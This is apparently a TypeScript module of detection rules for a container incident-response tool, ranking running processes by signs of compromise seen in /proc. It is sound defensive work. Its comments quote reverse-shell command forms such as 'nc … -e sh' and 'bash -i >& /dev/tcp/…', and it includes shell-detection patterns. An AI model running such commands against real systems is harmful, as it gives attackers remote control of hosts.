/**
 * Rules that rank a running process of the container, from what /proc showed of it on
 * the engine's host. Each is one small pure function returning a reason a responder
 * understands, or nothing.
 */
import type { Finding, RuleHit } from '../report/finding.js';
import type { EngineEvent, ProcessRecord } from '../report/process.js';
import { withTechnique } from './change-rules.js';
import { REMOTE_SHELLS } from './remote-shells.js';

export interface ProcessContext {
  /** Paths the container wrote (added or changed, in its layer or its mounts). */
  written: ReadonlySet<string>;
  /** Ports the image declares (`80/tcp`). */
  exposedPorts: ReadonlySet<string>;
  /** The engine's own healthcheck processes and their children (started by exec, not the attacker's). */
  engineOwned: ReadonlySet<number>;
}

export type ProcessRule = (p: ProcessRecord, context: ProcessContext) => RuleHit | undefined;

const TEMP_DIRS = ['/tmp/', '/var/tmp/', '/dev/shm/', '/run/shm/'];
const command = (p: ProcessRecord) => p.commandLine.join(' ').slice(0, 200);

export const deletedExecutable: ProcessRule = (p) =>
  p.exe.isDeleted
    ? {
        severity: 'critical',
        reason: `runs from ${p.exe.path}, deleted after it started: a payload hiding itself (its bytes were recovered${p.exe.stored ? `, sha256 ${p.exe.stored.sha256}` : ''})`,
      }
    : undefined;

/** A health probe still being set up (its parent the runtime) runs the runtime's binary, not the image's. */
const isProbeMidStart = (p: ProcessRecord, c: ProcessContext) =>
  p.execId !== undefined && c.engineOwned.has(p.pid);

export const executableNotInImage: ProcessRule = (p, c) =>
  !p.exe.isDeleted && p.exe.image === 'absent' && !isProbeMidStart(p, c)
    ? { severity: 'high', reason: `runs ${p.exe.path}, an executable the image does not have` }
    : undefined;

export const executableModified: ProcessRule = (p) =>
  p.exe.image === 'different'
    ? {
        severity: 'critical',
        reason: `runs ${p.exe.path}, whose bytes differ from the image's file at that path (a replaced binary)`,
      }
    : undefined;

export const executableInTemp: ProcessRule = (p) =>
  TEMP_DIRS.some((d) => p.exe.path.startsWith(d))
    ? { severity: 'critical', reason: `runs from a world-writable temp directory (${p.exe.path})` }
    : undefined;

export const startedThroughEngine: ProcessRule = (p, c) =>
  p.isFromExec && !c.engineOwned.has(p.pid)
    ? {
        severity: 'high',
        reason: `started through the engine (docker exec), not by the container's own processes: ${command(p)}`,
      }
    : undefined;

export const kernelThreadName: ProcessRule = (p) =>
  /^\[.*\]$/.test(p.commandLine[0] ?? '')
    ? {
        severity: 'high',
        reason: `named like a kernel thread (${p.commandLine[0]}) though it runs ${p.exe.path}: hiding in a process list`,
      }
    : undefined;

export const loaderInjection: ProcessRule = (p) =>
  p.loaderEnv.length
    ? {
        severity: 'critical',
        reason: `its environment tells the dynamic loader what to inject: ${p.loaderEnv.join(' ').slice(0, 300)}`,
      }
    : undefined;

/**
 * How /proc names what is not a deleted file: shared anonymous memory (`/dev/zero`) and
 * System V shared memory (`/SYSV…`) always show as deleted.
 */
const ANONYMOUS_MAPPING = /^(\/dev\/zero|\/SYSV[0-9a-f]+) \(deleted\)$/;

export const mapsDeletedFile: ProcessRule = (p) => {
  const deleted = p.mappedFiles.filter(
    (m) =>
      m.endsWith(' (deleted)') &&
      m !== `${p.exe.path} (deleted)` &&
      !ANONYMOUS_MAPPING.test(m) &&
      !m.startsWith('/memfd:'),
  );
  return deleted.length
    ? {
        severity: 'high',
        reason: `maps a deleted file (an injected library removed from disk?): ${deleted.slice(0, 3).join(', ')}`,
      }
    : undefined;
};

export const mapsWrittenFile: ProcessRule = (p, c) => {
  const written = p.mappedFiles.filter((m) => c.written.has(m) && m !== p.exe.path);
  return written.length
    ? {
        severity: 'high',
        reason: `loads code the container wrote: ${written.slice(0, 3).join(', ')}`,
      }
    : undefined;
};

/** Code that exists only in memory: memfd_create, the way fileless payloads run. */
export const mapsMemoryFile: ProcessRule = (p) => {
  const memfd = p.mappedFiles.filter((m) => m.startsWith('/memfd:'));
  return memfd.length
    ? {
        severity: 'high',
        reason: `maps a file that exists only in memory (memfd): ${memfd.slice(0, 3).join(', ')}`,
      }
    : undefined;
};

/** Programs unlink their own temporary files all the time: worth a look, not an alarm. */
export const holdsDeletedFile: ProcessRule = (p) =>
  p.deletedOpenFiles.length
    ? {
        severity: 'low',
        reason: `holds open ${p.deletedOpenFiles.length} deleted file(s), recovered: ${p.deletedOpenFiles
          .slice(0, 3)
          .map((f) => f.path)
          .join(', ')}`,
      }
    : undefined;

export const undeclaredListener: ProcessRule = (p, c) => {
  const listeners = p.sockets.filter(
    (s) =>
      s.state === 'listen' &&
      s.protocol !== 'unix' &&
      !c.exposedPorts.has(
        `${s.local.slice(s.local.lastIndexOf(':') + 1)}/${s.protocol.replace('6', '')}`,
      ),
  );
  return listeners.length
    ? {
        severity: 'high',
        reason: `listens on ${listeners.map((s) => `${s.local}/${s.protocol}`).join(', ')}, which the image does not declare`,
      }
    : undefined;
};

export const publicConnection: ProcessRule = (p) => {
  const out = p.sockets.filter((s) => s.state === 'established' && s.isRemotePublic);
  return out.length
    ? {
        severity: 'high',
        reason: `connected to a public address: ${out.map((s) => s.remote).join(', ')} (a controller or an exfiltration?)`,
      }
    : undefined;
};

// Programs that read commands from their standard input: shells and script interpreters.
const INTERPRETER =
  /(?:^|\/)(?:(?:ba|da|k|z|a|c|tc|mk)?sh|python[\d.]{0,6}|perl[\d.]{0,6}|ruby[\d.]{0,6}|php[\d.]{0,6}|node(?:js)?|lua[\d.]{0,6}|tclsh[\d.]{0,6}|pwsh|g?awk)$/;

/** True for a shell or interpreter; busybox is each of its applets, named by argv[0]. */
const isInterpreter = (p: ProcessRecord) =>
  /(?:^|\/)busybox$/.test(p.exe.path)
    ? INTERPRETER.test(p.commandLine[0] ?? '')
    : INTERPRETER.test(p.exe.path) || INTERPRETER.test(p.commandLine[0] ?? '');

/**
 * A process whose standard input and output are a network connection: what `nc -e
 * /bin/sh`, `bash -i >& /dev/tcp/…` and every reverse or bind shell leave behind, however
 * they were started and whatever the command line says. A command interpreter so wired
 * takes its commands from the other end; any other program is worth a look (an
 * inetd-style service, or a program such a shell started).
 */
export const shellOnNetwork: ProcessRule = (p) => {
  const wired = p.sockets.find(
    (s) =>
      s.protocol !== 'unix' &&
      s.stdio?.includes(0) === true &&
      (s.stdio.includes(1) || s.stdio.includes(2)),
  );
  if (!wired) return undefined;
  const peer = wired.remote ? `to ${wired.remote}` : `on ${wired.local}`;
  return isInterpreter(p)
    ? {
        severity: 'critical',
        reason: `a command interpreter whose input and output are a network connection (${peer}): a reverse or bind shell, run by whoever is at the other end (${command(p)})`,
      }
    : {
        severity: 'high',
        reason: `its input and output are a network connection (${peer}): an inetd-style service, or a program a remote shell started (${command(p)})`,
      };
};

/** A command line that is itself a reverse or bind shell (`nc 203.0.113.7 4444 -e sh`). */
export const remoteShellCommand: ProcessRule = (p) => {
  const form = REMOTE_SHELLS.find((f) => f.test.test(p.commandLine.join(' ')));
  return form
    ? {
        severity: 'critical',
        reason: `its command line is a remote shell (${form.what}): ${command(p)}`,
        attack: form.attack,
      }
    : undefined;
};

export const PROCESS_RULES: Readonly<Record<string, ProcessRule>> = {
  'process-deleted-executable': deletedExecutable,
  'process-executable-not-in-image': executableNotInImage,
  'process-executable-modified': executableModified,
  'process-executable-in-temp': executableInTemp,
  'process-from-exec': startedThroughEngine,
  'process-kernel-thread-name': kernelThreadName,
  'process-loader-injection': loaderInjection,
  'process-maps-deleted-file': mapsDeletedFile,
  'process-maps-written-file': mapsWrittenFile,
  'process-maps-memory-file': mapsMemoryFile,
  'process-holds-deleted-file': holdsDeletedFile,
  'process-undeclared-listener': undeclaredListener,
  'process-public-connection': publicConnection,
  'process-shell-on-network': shellOnNetwork,
  'process-remote-shell-command': remoteShellCommand,
};

/** Every rule that fires for one process. */
export function evaluateProcess(p: ProcessRecord, context: ProcessContext): Finding[] {
  const findings: Finding[] = [];
  for (const [rule, check] of Object.entries(PROCESS_RULES)) {
    const hit = check(p, context);
    if (hit) findings.push({ ...withTechnique(rule, p.exe.path, hit), pid: p.pid });
  }
  return findings;
}

/**
 * The healthcheck's processes and everything they started: by its command line, or, for a
 * process caught while the runtime still set it up (`runc init`), by the exec it was started
 * for, when the engine's events say that exec was the configured healthcheck.
 */
export function healthcheckProcesses(
  processes: readonly ProcessRecord[],
  healthcheck: string | undefined,
  events: readonly EngineEvent[] = [],
): Set<number> {
  const owned = new Set<number>();
  if (!healthcheck) return owned;
  const probes = new Set(
    events
      .filter((e) => e.action === `exec_create: ${healthcheck}` && e.attributes['execID'])
      .map((e) => e.attributes['execID']!),
  );
  for (const p of processes)
    if (
      p.isFromExec &&
      (p.commandLine.join(' ') === healthcheck || (p.execId !== undefined && probes.has(p.execId)))
    )
      owned.add(p.pid);
  for (let grew = true; grew;) {
    grew = false;
    for (const p of processes)
      if (!owned.has(p.pid) && owned.has(p.ppid)) {
        owned.add(p.pid);
        grew = true;
      }
  }
  return owned;
}
